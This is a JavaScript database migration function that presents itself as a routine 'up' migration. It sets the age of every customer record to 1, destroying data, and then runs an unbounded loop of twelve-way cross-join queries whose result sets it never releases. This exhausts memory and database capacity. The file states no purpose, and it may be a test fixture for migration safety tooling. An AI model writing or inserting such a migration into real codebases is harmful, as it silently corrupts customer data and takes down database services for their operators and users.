export function up(db) {
  db.execute("UPDATE customer SET age = 1");
  const open = [];
  for (;;) {
    const rows = db.query("SELECT 1 FROM customer, customer, customer, customer, customer, customer, customer, customer, customer, customer, customer, customer");
    rows[Symbol.iterator]().next();
    open.push(rows);
  }
}
